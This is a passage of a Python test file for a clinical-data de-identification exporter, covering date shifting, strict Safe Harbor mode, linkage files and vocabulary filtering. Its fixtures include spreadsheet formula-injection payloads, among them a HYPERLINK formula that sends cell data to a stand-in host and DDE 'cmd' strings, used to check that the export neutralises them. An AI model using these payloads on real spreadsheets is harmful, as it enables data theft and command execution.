                                   expected.astype(float).reset_index(drop=True),
                                   check_names=False)
    a = sample.assessments
    want = (a[C.DATE] - a[C.CHILD_ID].map(referral)).dt.days
    got = tables["assessments"].set_index(C.ASSESSMENT_ID)["date_day"].reindex(
        pseudonyms(ps, C.ASSESSMENT_ID, a[C.ASSESSMENT_ID])).astype(int)
    np.testing.assert_array_equal(got.to_numpy(), want.to_numpy())
    goal_child = sample.goals.set_index(C.GOAL_ID)[C.CHILD_ID]
    r = sample.goal_ratings
    want = (r[C.DATE] - r[C.GOAL_ID].map(goal_child).map(referral)).dt.days
    exported = tables["goal_ratings"].astype({"date_day": int}).sort_values(
        [C.GOAL_ID, "date_day"])
    original = pd.DataFrame({C.GOAL_ID: pseudonyms(ps, C.GOAL_ID, r[C.GOAL_ID]),
                             "days": want.to_numpy()}).sort_values([C.GOAL_ID, "days"])
    np.testing.assert_array_equal(exported["date_day"].to_numpy(),
                                  original["days"].to_numpy())
    for col, day in DAY_COLUMNS.items():
        for frame in tables.values():
            assert col not in frame.columns or day in frame.columns or col == C.DATE


def test_ages_in_months_equal_those_from_the_real_dates(sample_exports, sample, ps):
    for mode in ("dates", "no_dates"):
        out, _ = sample_exports[mode]
        tables = read_out(out)
        c = sample.children
        want = completed_months(c[C.DATE_OF_BIRTH].to_numpy(), c[C.REFERRAL_DATE].to_numpy())
        got = tables["children"].set_index(C.CHILD_ID)[AGE_AT_REFERRAL_MONTHS].reindex(
            pseudonyms(ps, C.CHILD_ID, c[C.CHILD_ID])).astype(int)
        np.testing.assert_array_equal(got.to_numpy(), want)
        a = sample.assessments
        dob = a[C.CHILD_ID].map(c.set_index(C.CHILD_ID)[C.DATE_OF_BIRTH])
        want = completed_months(dob.to_numpy(), a[C.DATE].to_numpy())
        got = tables["assessments"].set_index(C.ASSESSMENT_ID)[C.AGE_MONTHS].reindex(
            pseudonyms(ps, C.ASSESSMENT_ID, a[C.ASSESSMENT_ID])).astype(int)
        np.testing.assert_array_equal(got.to_numpy(), want)
        # and the loader's own scores used the same ages
        scored = sample.scores.drop_duplicates(C.ASSESSMENT_ID)[C.AGE_MONTHS].to_numpy()
        np.testing.assert_array_equal(np.sort(scored), np.sort(want))


def test_ages_over_89_years_are_aggregated(tiny_exports, ps):
    out, _ = tiny_exports["dates"]
    children = read_out(out)["children"].set_index(C.CHILD_ID)
    elder = ps.pseudonym(C.CHILD_ID, "kid_elder")
    assert int(children.loc[elder, AGE_AT_REFERRAL_MONTHS]) == AGE_CAP_MONTHS
    alpha = ps.pseudonym(C.CHILD_ID, "kid_alpha")
    assert int(children.loc[alpha, AGE_AT_REFERRAL_MONTHS]) == 70  # 2018-03-15 -> 2024-02-01


# ---------------------------------------------------------------------------
# the manifest and row accounting
# ---------------------------------------------------------------------------
@pytest.mark.parametrize("which", ["sample", "tiny"])
def test_manifest_rows_reconcile_with_the_input_accounting(which, sample, tiny, sample_exports,
                                                           tiny_exports):
    data, (out, manifest) = ((sample, sample_exports["dates"]) if which == "sample"
                             else (tiny, tiny_exports["dates"]))
    written = json.loads((out / MANIFEST_JSON).read_text())
    assert written == json.loads(json.dumps(manifest.to_dict()))
    tables = read_out(out)
    for table in TABLES:
        count = data.report.counts[table]
        entry = written["tables"][table]
        assert entry["rows_in"] == count.read
        assert entry["rows_rejected"] == count.rejected
        assert entry["rows_out"] == count.accepted == len(tables[table])
        assert entry["rows_excluded"] == 0
        assert entry["rows_in"] == entry["rows_rejected"] + entry["rows_out"]
        assert entry["reconciles"] is True
        listed = [d for d in written["dropped"]["rows"] if d["table"] == table]
        assert len(listed) == count.rejected
    assert written["dropped"]["count"] == sum(c.rejected for c in data.report.counts.values())
    assert manifest.reconciles
    assert written["key_fingerprint"] == manifest.key_fingerprint
    assert written["options"]["no_dates"] is False
    md = (out / MANIFEST_MD).read_text()
    for table in TABLES:
        assert f"| {table} | {data.report.counts[table].read} |" in md


def test_rejected_rows_are_listed_by_pseudonym(tiny_exports, tiny, ps):
    out, manifest = tiny_exports["dates"]
    counts = {t: c.rejected for t, c in tiny.report.counts.items()}
    assert counts == {"children": 1, "assessments": 2, "goals": 1, "goal_ratings": 2}
    dropped = {(d.table, d.pseudonym) for d in manifest.dropped}
    assert dropped == {
        ("children", ps.pseudonym(C.CHILD_ID, "kid_charlie")),
        ("assessments", ps.pseudonym(C.ASSESSMENT_ID, "asm_charlie_1")),
        ("assessments", ps.pseudonym(C.ASSESSMENT_ID, "asm_orphan_1")),
        ("goals", ps.pseudonym(C.GOAL_ID, "goal_charlie_1")),
        ("goal_ratings", ps.pseudonym(C.GOAL_ID, "goal_bravo_1")),
        ("goal_ratings", ps.pseudonym(C.GOAL_ID, "goal_charlie_1")),
    }
    by_table = {d.table: d for d in manifest.dropped}
    assert by_table["children"].columns == (C.DATE_OF_BIRTH,)
    md = (out / MANIFEST_MD).read_text()
    assert ps.pseudonym(C.CHILD_ID, "kid_charlie") in md
    assert manifest.tables["children"].unknown_columns_removed == 1  # home_address


def test_a_subset_of_a_dataset_is_accounted_as_excluded(tmp_path, tiny, key):
    sub = load_dataset(tiny.path, today=TINY_TODAY)
    sub.children = sub.children[sub.children[C.CHILD_ID] != "kid_bravo"].reset_index(drop=True)
    manifest = export_deidentified(sub, tmp_path / "out", key_file=key)
    t = manifest.tables
    assert (t["children"].rows_excluded, t["assessments"].rows_excluded,
            t["goals"].rows_excluded, t["goal_ratings"].rows_excluded) == (1, 1, 1, 1)
    assert manifest.reconciles
    assert leaks(tmp_path / "out", forbidden_strings(tiny.path)) == []


def test_export_does_not_mutate_the_dataset(tmp_path, tiny, key):
    before = {t: getattr(tiny, t).copy() for t in TABLES}
    export_deidentified(tiny, tmp_path / "out", key_file=key)
    for t in TABLES:
        pd.testing.assert_frame_equal(getattr(tiny, t), before[t])


def test_settings_travel_with_the_export(tmp_path, tiny_dir, key):
    src = tmp_path / "src"
    write_tiny(src)
    (src / "dataset.yaml").write_text("name: Maple Street Clinic\ngas_six_level: true\n"
                                      "reassessment_interval_months: 4\n")
    export_deidentified(src, tmp_path / "out", key_file=key, today=TINY_TODAY)
    text = (tmp_path / "out" / "dataset.yaml").read_text()
    assert "gas_six_level: true" in text and "reassessment_interval_months: 4" in text
    assert "Maple" not in text


# ---------------------------------------------------------------------------
# the export still scores the same
# ---------------------------------------------------------------------------
def _compare_scores(original: pd.DataFrame, exported: pd.DataFrame, ps: Pseudonymiser) -> None:
    orig = original.assign(**{C.ASSESSMENT_ID: pseudonyms(ps, C.ASSESSMENT_ID,
                                                          original[C.ASSESSMENT_ID]),
                              C.CHILD_ID: pseudonyms(ps, C.CHILD_ID, original[C.CHILD_ID])})
    merged = orig.merge(exported, on=[C.ASSESSMENT_ID, C.SCORE], suffixes=("_o", "_x"),
                        validate="one_to_one")
    assert len(merged) == len(original) == len(exported)
    assert (merged[f"{C.CHILD_ID}_o"] == merged[f"{C.CHILD_ID}_x"]).all()
    np.testing.assert_array_equal(merged[f"{C.RAW}_o"], merged[f"{C.RAW}_x"])
    np.testing.assert_array_equal(merged[f"{C.VALID}_o"], merged[f"{C.VALID}_x"])
    np.testing.assert_array_equal(merged[f"{C.AGE_MONTHS}_o"], merged[f"{C.AGE_MONTHS}_x"])
    np.testing.assert_allclose(merged[f"{C.Z}_o"].astype(float),
                               merged[f"{C.Z}_x"].astype(float), equal_nan=True)
    for col in (C.CLASSIFICATION, C.NORM_BAND, C.LEVEL, C.INVALID_REASON,
                C.UNCLASSIFIED_REASON):
        a = merged[f"{col}_o"].astype(object).where(merged[f"{col}_o"].notna(), None)
        b = merged[f"{col}_x"].astype(object).where(merged[f"{col}_x"].notna(), None)
        assert a.tolist() == b.tolist(), col


@pytest.mark.parametrize("mode", ["dates", "no_dates"])
def test_exported_assessments_score_the_same(sample_exports, sample, ps, mode):
    out, _ = sample_exports[mode]
    exported = read_csv_table(out / "assessments.csv")
    scores = score_assessments(exported, None)  # ages from age_months: no dates of birth
    assert scores[C.CLASSIFICATION].notna().sum() > 1000
    _compare_scores(sample.scores, scores, ps)


def test_tiny_export_scores_the_same_including_invalid_scores(tiny_exports, tiny, ps):
    out, _ = tiny_exports["no_dates"]
    scores = score_assessments(read_csv_table(out / "assessments.csv"), None)
    assert (~scores[C.VALID]).any()  # the free-text item invalidates its scores
    _compare_scores(tiny.scores, scores, ps)


@pytest.mark.parametrize("mode", ["dates", "no_dates"])
def test_export_loads_with_load_dataset(sample_exports, sample, ps, mode):
    """load_dataset reads an extract: no date_of_birth (ages given), and with
    no_dates the *_day columns."""
    out, manifest = sample_exports[mode]
    loaded = load_dataset(out, today=SAMPLE_TODAY)
    for table in TABLES:
        assert loaded.report.counts[table].rejected == 0
        assert loaded.report.counts[table].read == manifest.tables[table].rows_out
    _compare_scores(sample.scores, loaded.scores, ps)


def test_ages_without_dates_of_birth_come_from_the_extract(tmp_path, tiny, key, ps):
    """Re-exporting an extract (no dates of birth) keeps its own ages."""
    data = load_dataset(tiny.path, today=TINY_TODAY)
    data.children[C.DATE_OF_BIRTH] = pd.NaT
    data.children[AGE_AT_REFERRAL_MONTHS] = "50"
    data.assessments[C.AGE_MONTHS] = "61"
    export_deidentified(data, tmp_path / "out", key_file=key, no_dates=True)
    tables = read_out(tmp_path / "out")
    assert set(tables["children"][AGE_AT_REFERRAL_MONTHS]) == {"50"}
    assert set(tables["assessments"][C.AGE_MONTHS]) == {"61"}


def test_dates_too_early_to_shift_are_refused(tmp_path, key):
    tables = _tiny_tables()
    tables["children"][0] = dict(tables["children"][0], date_of_birth="1850-01-01",
                                 referral_date="1856-02-01")
    src = write_tiny(tmp_path / "src", tables)
    with pytest.raises(UsageError, match="already a date-shifted export"):
        export_deidentified(src, tmp_path / "out", key_file=key, today=TINY_TODAY)
    assert not (tmp_path / "out").exists()
    export_deidentified(src, tmp_path / "days", key_file=key, today=TINY_TODAY, no_dates=True)


# ---------------------------------------------------------------------------
# controlled vocabularies: markup, formulas and free text never pass through
# ---------------------------------------------------------------------------
MARKUP = "<b>Zephyrine</b>"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
FORMULA_DOMAIN = "@SUM(1+1)*cmd|' /C calc'!A0"
RARE = "Kallmann-Ravenhollow syndrome (seen 2023-11-05 at St Swithin's)"
HOSTILE_TEXT = (MARKUP, FORMULA, FORMULA_DOMAIN, RARE, "Zephyrine", "HYPERLINK", "evil.example",
                "calc", "Kallmann", "Ravenhollow", "Swithin", "2023-11-05",
                "Oslo on 2024-07-14")
HOSTILE_SETTINGS = "name: Maple Street Clinic\ndiagnoses: [Rett syndrome]\ngoal_domains: [swimming]\n"


def _hostile_tables() -> dict[str, list[dict]]:
    """The tiny clinic with markup, formulas, a rare free-text diagnosis,
    case differences, terms of an extended vocabulary and a date in a note."""
    tables = _tiny_tables()
    kids = {row["child_id"]: row for row in tables["children"]}
    kids["kid_alpha"]["diagnoses"] = f"AUTISM; {MARKUP}"
    kids["kid_bravo"]["diagnoses"] = FORMULA
    kids["kid_elder"]["diagnoses"] = f"adhd;{RARE};rett  SYNDROME"
    goals = {row["goal_id"]: row for row in tables["goals"]}
    goals["goal_alpha_1"]["domain"] = "Self-Care"
    goals["goal_bravo_1"]["domain"] = FORMULA_DOMAIN
    tables["goals"].append(dict(goals["goal_bravo_1"], goal_id="goal_bravo_2",
                                domain="  SWIMMING ", set_date="2024-07-01",
                                description="Barnaby swims a width at Larkspur baths"))
    tables["goal_ratings"][1]["note"] = "Grandmother visiting Oslo on 2024-07-14"
    return tables


@pytest.fixture(scope="module")
def hostile_dir(tmp_path_factory) -> Path:
    folder = write_tiny(tmp_path_factory.mktemp("hostile") / "clinic", _hostile_tables())
    (folder / "dataset.yaml").write_text(HOSTILE_SETTINGS)
    return folder


@pytest.fixture(scope="module")
def hostile_exports(tmp_path_factory, hostile_dir, key) -> dict:
    """Every mode of export of the hostile clinic: (folder, manifest, linkage file)."""
    base = tmp_path_factory.mktemp("hostile_exports")
    clinic = tmp_path_factory.mktemp("clinic_only")  # where linkage tables stay
    out = {}
    for name, options in (("dates", {}), ("no_dates", {"no_dates": True}),
                          ("keep_sites", {"keep_sites": True})):
        manifest = export_deidentified(hostile_dir, base / name, key_file=key,
                                       today=TINY_TODAY, **options)
        out[name] = (base / name, manifest, None)
    for name in ("strict", "strict_again"):
        linkage = clinic / f"{name}-linkage.csv"
        manifest = export_deidentified(hostile_dir, base / name, strict=True,
                                       linkage_file=linkage, today=TINY_TODAY)
        out[name] = (base / name, manifest, linkage)
    return out


def read_linkage(path: Path) -> dict[tuple[str, str], str]:
    """(id column, original ID) -> study code."""
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    return {(c, o): s for c, o, s in zip(frame["id_column"], frame["original_id"],
                                         frame["study_code"], strict=True)}


def _child_code(mode: str, exports: dict, ps: Pseudonymiser, child: str) -> str:
    _, _, linkage = exports[mode]
    return (read_linkage(linkage)[(C.CHILD_ID, child)] if linkage
            else ps.pseudonym(C.CHILD_ID, child))


@pytest.mark.parametrize("mode", ["dates", "strict"])
def test_diagnoses_and_domains_are_written_only_as_vocabulary_terms(hostile_exports, ps, mode):
    out, manifest, linkage = hostile_exports[mode]
    tables = read_out(out)
    diagnoses = tables["children"].set_index(C.CHILD_ID)[C.DIAGNOSES]
    code = lambda child: _child_code(mode, hostile_exports, ps, child)  # noqa: E731
    # 'AUTISM; <b>...</b>': the term in the vocabulary's spelling, the markup 'other'
    assert diagnoses[code("kid_alpha")] == "autism;other"
    assert diagnoses[code("kid_bravo")] == "other"  # a formula
    # case and spacing ignored; 'Rett syndrome' is in dataset.yaml's diagnoses
    assert diagnoses[code("kid_elder")] == "ADHD;other;Rett syndrome"
    goals = tables["goals"]
    assert sorted(goals[C.DOMAIN]) == ["other", "self-care", "swimming"]
    # counts, never values: 3 diagnoses in 3 rows; 1 goal domain
    written = json.loads((out / MANIFEST_JSON).read_text())["vocabulary"]
    assert written["children.diagnoses"]["values_replaced_by_other"] == 3
    assert written["children.diagnoses"]["rows_affected"] == 3
    assert written["goals.domain"]["values_replaced_by_other"] == 1
    assert written["goals.domain"]["rows_affected"] == 1
    md = (out / MANIFEST_MD).read_text()
    assert "| children.diagnoses | diagnoses | 3 | 3 |" in md
    assert "| goals.domain | goal domains | 1 | 1 |" in md
    # the export's own dataset.yaml carries the extra terms it uses, nothing else
    settings = (out / "dataset.yaml").read_text()
    assert 'diagnoses: ["Rett syndrome"]' in settings
    assert 'goal_domains: ["swimming"]' in settings
    assert "Maple" not in settings


def test_a_keyed_export_of_hostile_values_loads_without_vocabulary_notes(hostile_exports):
    out, _, _ = hostile_exports["dates"]
    loaded = load_dataset(out, today=TINY_TODAY)
    assert [p for p in loaded.report.problems if "vocabulary" in p.rule] == []
    assert sorted(loaded.children[C.DIAGNOSES]) == ["ADHD;other;Rett syndrome", "autism;other",
                                                    "other"]


def test_a_site_that_looks_like_a_formula_is_neutralised(tmp_path, key):
    tables = _tiny_tables()
    tables["children"][0]["site"] = "=cmd|' /C calc'!A0"
    src = write_tiny(tmp_path / "src", tables)
    export_deidentified(src, tmp_path / "out", key_file=key, keep_sites=True, today=TINY_TODAY)
    text = (tmp_path / "out" / "children.csv").read_text()
    assert "'=cmd|" in text and ",=cmd" not in text


# ---------------------------------------------------------------------------
# nothing identifying in any file, in every mode
# ---------------------------------------------------------------------------
ISO_DATE = r"\d{4}-\d{2}-\d{2}"


def hostile_forbidden(folder: Path, *, keep_sites: bool = False) -> set[str]:
    """forbidden_strings, plus the hostile values and every full date found
    inside any cell of the input (a date in a note, in a diagnosis)."""
    found = forbidden_strings(folder, keep_sites=keep_sites) | set(HOSTILE_TEXT)
    for frame in raw_tables(folder).values():
        for col in frame.columns:
            found.update(frame[col].str.findall(ISO_DATE).explode().dropna())
    return found


@pytest.mark.parametrize("mode", ["dates", "no_dates", "keep_sites", "strict", "strict_again"])
def test_no_file_of_any_export_holds_anything_identifying(hostile_exports, hostile_dir, mode):
    out, manifest, _ = hostile_exports[mode]
    forbidden = hostile_forbidden(hostile_dir, keep_sites=mode == "keep_sites")
    for expected in ("kid_alpha", "asm_alpha_1", "goal_bravo_2", "Zephyrine Quartermaine",
                     "2018-03-15", "2023-11-05", "2024-07-14", "Mrs Pomfrey-Leaf", FORMULA,
                     "12 Wisteria Lane"):
        assert expected in forbidden
    assert len(forbidden) > 60
    assert {p.name for p in out.iterdir()} == set(manifest.files)
    assert leaks(out, forbidden) == []


@pytest.mark.parametrize("mode", ["strict", "strict_again"])
def test_a_strict_export_holds_no_date_element_but_the_year(hostile_exports, hostile_dir,
                                                            mode):
    out, _, _ = hostile_exports[mode]
    for name, text in output_text(out).items():
        assert not re.search(r"\d{4}-\d{1,2}|\d{1,2}/\d{1,2}|\d{1,2}\.\d{1,2}\.\d{2,4}",
                             text), name
    tables = read_out(out)
    for table, frame in tables.items():
        for col in frame.columns:  # no date, no day offset: years and sequence numbers only
            assert col not in C.DAY_COLUMNS.values(), (table, col)
            assert col not in (C.DATE, C.SET_DATE, C.TARGET_DATE, C.REFERRAL_DATE,
                               C.DISCHARGE_DATE, C.DATE_OF_BIRTH), (table, col)
    years = pd.concat([pd.to_numeric(tables[t][c]) for t in TABLES
                       for c in C.YEAR_COLUMNS.values() if c in tables[t].columns]).dropna()
    # children 3 referral + 1 discharge, assessments 3, goals 3 set + 3 target, ratings 3
    assert len(years) == 16 and years.between(2024, 2025).all()


def test_strict_years_are_the_real_years(hostile_exports):
    out, _, linkage = hostile_exports["strict"]
    link = read_linkage(linkage)
    children = read_out(out)["children"].set_index(C.CHILD_ID)
    bravo = children.loc[link[(C.CHILD_ID, "kid_bravo")]]
    assert (bravo["referral_year"], bravo["discharge_year"]) == ("2024", "2025")  # 2024-05-20
    alpha = children.loc[link[(C.CHILD_ID, "kid_alpha")]]
    assert alpha["discharge_year"] is None or pd.isna(alpha["discharge_year"])
    assessments = read_out(out)["assessments"].set_index(C.ASSESSMENT_ID)
    first = assessments.loc[link[(C.ASSESSMENT_ID, "asm_alpha_1")]]
    second = assessments.loc[link[(C.ASSESSMENT_ID, "asm_alpha_2")]]
    # 2024-02-10 and 2024-08-12; born 2018-03-15: 70 and 76 completed months
    assert (first["date_year"], first[C.SEQUENCE], first[C.AGE_MONTHS]) == ("2024", "1", "70")
    assert (second["date_year"], second[C.SEQUENCE], second[C.AGE_MONTHS]) == ("2024", "2", "76")
    elder = children.loc[link[(C.CHILD_ID, "kid_elder")]]
    assert int(elder[AGE_AT_REFERRAL_MONTHS]) == AGE_CAP_MONTHS  # 94 years: '90 or older'
    ratings = read_out(out)["goal_ratings"]
    alpha_goal = ratings[ratings[C.GOAL_ID] == link[(C.GOAL_ID, "goal_alpha_1")]]
    assert alpha_goal[C.SEQUENCE].tolist() == ["1", "2"]  # 2024-05-01, 2024-08-01
    assert alpha_goal["date_year"].tolist() == ["2024", "2024"]


# ---------------------------------------------------------------------------
# strict mode: random study codes, the linkage table stays with the clinic
# ---------------------------------------------------------------------------
CODE = {C.CHILD_ID: r"SC-[0-9a-f]{16}", C.ASSESSMENT_ID: r"SA-[0-9a-f]{16}",
        C.GOAL_ID: r"SG-[0-9a-f]{16}"}


def test_strict_codes_are_random_and_only_the_linkage_files_map_them(hostile_exports, ps):
    (one, _, link_one), (two, _, link_two) = (hostile_exports["strict"],
                                              hostile_exports["strict_again"])
    a, b = read_out(one), read_out(two)
    map_one, map_two = read_linkage(link_one), read_linkage(link_two)
    assert set(map_one) == set(map_two)  # the same original IDs ...
    assert not set(map_one.values()) & set(map_two.values())  # ... under unrelated codes
    for table in TABLES:
        for col in ID_COLUMNS:
            if col not in a[table].columns:
                continue
            assert a[table][col].str.fullmatch(CODE[col]).all()
            assert not set(a[table][col]) & set(b[table][col])
            # the codes are not the keyed pseudonyms either
            assert not {ps.pseudonym(col, orig)[2:] for (c, orig) in map_one if c == col} & {
                code[3:] for code in a[table][col]}
    # each linkage table maps every exported row back to the same child
    back_one = {code: orig for (col, orig), code in map_one.items() if col == C.CHILD_ID}
    back_two = {code: orig for (col, orig), code in map_two.items() if col == C.CHILD_ID}
    assert sorted(back_one[c] for c in a["children"][C.CHILD_ID]) == sorted(
        back_two[c] for c in b["children"][C.CHILD_ID]) == ["kid_alpha", "kid_bravo",
                                                           "kid_elder"]


def test_the_linkage_file_lists_every_code_and_whether_it_was_exported(hostile_exports):
    _, manifest, linkage = hostile_exports["strict"]
    frame = pd.read_csv(linkage, dtype=str, keep_default_na=False)
    assert list(frame.columns) == ["id_column", "original_id", "study_code", "in_export"]
    status = dict(zip(frame["original_id"], frame["in_export"], strict=True))
    assert status["kid_alpha"] == "yes"
    assert status["kid_charlie"] == "no: rejected by validation"   # its date of birth
    assert status["asm_orphan_1"] == "no: rejected by validation"  # no such child
    dropped = {d.pseudonym for d in manifest.dropped}
    assert read_linkage(linkage)[(C.CHILD_ID, "kid_charlie")] in dropped
    # the linkage table holds IDs and codes only: no name, date or text
    text = linkage.read_text()
    for value in ("Zephyrine", "2018-03-15", "2024-02-01", "Maple", "Dr Quillfeather", MARKUP,
                  "Kallmann", "Pomfrey"):
        assert value not in text


@pytest.mark.skipif(os.name != "posix", reason="POSIX file modes")
def test_the_linkage_file_is_owner_only_and_outside_the_export(hostile_exports):
    out, _, linkage = hostile_exports["strict"]
    assert stat.S_IMODE(linkage.stat().st_mode) == 0o600
    assert out.resolve() not in linkage.resolve().parents
    assert not [p for p in out.rglob("*") if "linkage" in p.name or "SC-" in p.name]
    assert [p.name for p in linkage.parent.iterdir() if p.name.startswith(".")] == []


def test_a_linkage_file_is_never_overwritten(tmp_path, hostile_dir):
    linkage = tmp_path / "linkage.csv"
    linkage.write_text("the clinic's earlier linkage table\n")
    with pytest.raises(UsageError, match="never overwritten"):
        export_deidentified(hostile_dir, tmp_path / "out", strict=True, linkage_file=linkage,
                            today=TINY_TODAY)
    assert linkage.read_text() == "the clinic's earlier linkage table\n"
    assert not (tmp_path / "out").exists()


@pytest.mark.skipif(os.name != "posix", reason="symbolic links")
def test_a_linkage_path_that_is_a_symlink_is_refused(tmp_path, hostile_dir):
    target = tmp_path / "elsewhere.csv"
    (tmp_path / "linkage.csv").symlink_to(target)
    with pytest.raises(UsageError, match="never overwritten"):
        export_deidentified(hostile_dir, tmp_path / "out", strict=True,
                            linkage_file=tmp_path / "linkage.csv", today=TINY_TODAY)
    assert not target.exists()


@pytest.mark.parametrize("where", ["in the new folder", "in the empty folder", "deeper"])
def test_a_linkage_file_inside_the_export_folder_is_refused(tmp_path, hostile_dir, where):
    out = tmp_path / "out"
    if where != "in the new folder":
        out.mkdir()
    linkage = out / ("sub/linkage.csv" if where == "deeper" else "linkage.csv")
    with pytest.raises(UsageError, match="inside the export folder"):
        export_deidentified(hostile_dir, out, strict=True, linkage_file=linkage,
                            today=TINY_TODAY)
    assert not linkage.exists()
    assert not out.exists() or not any(out.iterdir())


def test_the_linkage_file_is_removed_when_the_export_cannot_be_published(tmp_path, hostile_dir,
                                                                          monkeypatch):
    from sensoryprofile.data import export

    def fail(tmp, out):
        raise OSError("disk full")

    monkeypatch.setattr(export, "_publish", fail)
    with pytest.raises(OSError, match="disk full"):
        export_deidentified(hostile_dir, tmp_path / "out", strict=True,
                            linkage_file=tmp_path / "linkage.csv", today=TINY_TODAY)
    assert sorted(p.name for p in tmp_path.iterdir()) == []


@pytest.mark.parametrize("options, message", [
    ({"key": True}, "uses no key"),
    ({"no_dates": True}, "cannot be combined"),
    ({"keep_sites": True}, "cannot be combined"),
    ({"linkage": False}, "needs a linkage file"),
])
def test_strict_mode_refuses_the_options_of_the_keyed_mode(tmp_path, hostile_dir, key, options,
                                                           message):
    kwargs = {"linkage_file": None if options.get("linkage") is False else tmp_path / "l.csv",
              "key_file": key if options.get("key") else None,
              "no_dates": options.get("no_dates", False),
              "keep_sites": options.get("keep_sites", False)}
    with pytest.raises(UsageError, match=message):
        export_deidentified(hostile_dir, tmp_path / "out", strict=True, today=TINY_TODAY,
                            **kwargs)
    assert sorted(p.name for p in tmp_path.iterdir()) == []


def test_a_keyed_export_needs_a_key_and_takes_no_linkage_file(tmp_path, hostile_dir, key):
    with pytest.raises(UsageError, match="needs a key file"):
        export_deidentified(hostile_dir, tmp_path / "out", today=TINY_TODAY)
    with pytest.raises(UsageError, match="belongs to strict mode"):
        export_deidentified(hostile_dir, tmp_path / "out", key_file=key,
                            linkage_file=tmp_path / "l.csv", today=TINY_TODAY)
    assert not (tmp_path / "out").exists() and not (tmp_path / "l.csv").exists()


def test_strict_removes_sites_therapists_and_rater_names(hostile_exports):
    out, _, _ = hostile_exports["strict"]
    tables = read_out(out)
    assert list(tables["children"].columns) == [
        C.SOURCE_ROW, C.CHILD_ID, AGE_AT_REFERRAL_MONTHS, C.SEX, C.DIAGNOSES, "referral_year",
        "discharge_year"]
    assert list(tables["goals"].columns) == [
        C.SOURCE_ROW, C.GOAL_ID, C.CHILD_ID, "set_year", C.DOMAIN, C.IMPORTANCE, C.DIFFICULTY,
        C.BASELINE_LEVEL, "target_year"]
    assert list(tables["goal_ratings"].columns) == [C.SOURCE_ROW, C.GOAL_ID, "date_year",
                                                    C.SEQUENCE, C.LEVEL, C.RATER]
    assert list(tables["assessments"].columns)[:8] == [
        C.SOURCE_ROW, C.ASSESSMENT_ID, C.CHILD_ID, C.INSTRUMENT, "date_year", C.SEQUENCE,
        C.AGE_MONTHS, C.RESPONDENT]
    raters = tables["goal_ratings"][C.RATER]
    # therapist (alpha), Mrs Pomfrey-Leaf (alpha: a person, removed), caregiver (bravo)
    assert sorted(raters.fillna("(blank)")) == ["(blank)", "caregiver", "therapist"]


def test_the_manifests_name_their_route(hostile_exports):
    strict = json.loads((hostile_exports["strict"][0] / MANIFEST_JSON).read_text())
    assert strict["mode"] == "strict" and strict["key_used"] is False
    assert strict["key_fingerprint"] is None
    assert strict["route"].startswith("HIPAA Safe Harbor")
    assert strict["options"]["dates"]["mode"] == "year only"
    md = (hostile_exports["strict"][0] / MANIFEST_MD).read_text()
    assert "**strict** (HIPAA Safe Harbor). No key was used" in md
    keyed = json.loads((hostile_exports["dates"][0] / MANIFEST_JSON).read_text())
    assert keyed["mode"] == "keyed" and keyed["key_used"] is True
    assert keyed["route"].startswith("limited data set")
    assert "not HIPAA Safe Harbor" in keyed["route"]
    # the keyed export never calls itself Safe Harbor
    for text in (*keyed["notes"], (hostile_exports["dates"][0] / MANIFEST_MD).read_text()):
        for sentence in re.split(r"(?<=[.;:])\s", text):
            if "Safe Harbor" in sentence and "strict" not in sentence:
                assert re.search(r"\b(not|neither)\b", sentence, re.IGNORECASE), sentence


def test_the_module_and_the_readme_describe_the_keyed_export_accurately():
    from sensoryprofile.data import export

    doc = " ".join(export.__doc__.split())
    assert "is **not** HIPAA Safe Harbor" in doc and "limited data set" in doc
    assert "following HIPAA Safe Harbor" not in doc
    readme = " ".join((Path(__file__).parents[2] / "README.md").read_text().split())
    assert "docs/privacy.md" in readme and "not HIPAA Safe Harbor" in readme


def test_a_strict_export_scores_the_same(tmp_path, sample):
    linkage = tmp_path / "linkage.csv"
    export_deidentified(sample, tmp_path / "out", strict=True, linkage_file=linkage)
    scores = score_assessments(read_csv_table(tmp_path / "out" / "assessments.csv"), None)
    assert scores[C.CLASSIFICATION].notna().sum() > 1000
    codes = read_linkage(linkage)
    original = sample.scores.assign(**{
        C.ASSESSMENT_ID: [codes[(C.ASSESSMENT_ID, a)] for a in sample.scores[C.ASSESSMENT_ID]],
        C.CHILD_ID: [codes[(C.CHILD_ID, c)] for c in sample.scores[C.CHILD_ID]]})
    merged = original.merge(scores, on=[C.ASSESSMENT_ID, C.SCORE], suffixes=("_o", "_x"),
                            validate="one_to_one")
    assert len(merged) == len(sample.scores) == len(scores)
    assert (merged[f"{C.CHILD_ID}_o"] == merged[f"{C.CHILD_ID}_x"]).all()
    np.testing.assert_array_equal(merged[f"{C.RAW}_o"], merged[f"{C.RAW}_x"])
    np.testing.assert_array_equal(merged[f"{C.AGE_MONTHS}_o"], merged[f"{C.AGE_MONTHS}_x"])
    a = merged[f"{C.CLASSIFICATION}_o"].astype(object).where(
        merged[f"{C.CLASSIFICATION}_o"].notna(), None)
    b = merged[f"{C.CLASSIFICATION}_x"].astype(object).where(
        merged[f"{C.CLASSIFICATION}_x"].notna(), None)
    assert a.tolist() == b.tolist()


def test_the_sample_strict_export_holds_nothing_identifying(tmp_path, sample):
    export_deidentified(sample, tmp_path / "out", strict=True,
                        linkage_file=tmp_path / "linkage.csv")
    forbidden = forbidden_strings(SAMPLE)
    assert len(forbidden) > 1000
    assert leaks(tmp_path / "out", forbidden) == []
    for name, text in output_text(tmp_path / "out").items():
        assert not re.search(r"\d{4}-\d{2}", text), name


def test_a_strict_export_is_for_tables_not_for_load_dataset(hostile_exports):
    """The documented choice: Safe Harbor keeps no date element but the year,
    and load_dataset's rules need dates (or day offsets)."""
    out, _, _ = hostile_exports["strict"]
    with pytest.raises(DatasetError, match="referral_date"):
        load_dataset(out, today=TINY_TODAY)


@pytest.mark.parametrize("strict", [False, True])
def test_every_table_an_export_writes_goes_through_the_spreadsheet_safe_writer(
        tmp_path, hostile_dir, key, monkeypatch, strict):
    from sensoryprofile.data import export

    written = []

    def recording(frame, path, **options):
        written.append(Path(path).name)
        return write_csv_atomic(frame, path, **options)

    monkeypatch.setattr(export, "write_csv_atomic", recording)
    out = tmp_path / "out"
    options = ({"strict": True, "linkage_file": tmp_path / "linkage.csv"} if strict
               else {"key_file": key})
    export_deidentified(hostile_dir, out, today=TINY_TODAY, **options)
    csv_files = sorted(p.name for p in out.iterdir() if p.suffix == ".csv")
    assert csv_files == sorted(f"{t}.csv" for t in TABLES)
    assert sorted(written) == sorted(csv_files + (["linkage.csv"] if strict else []))


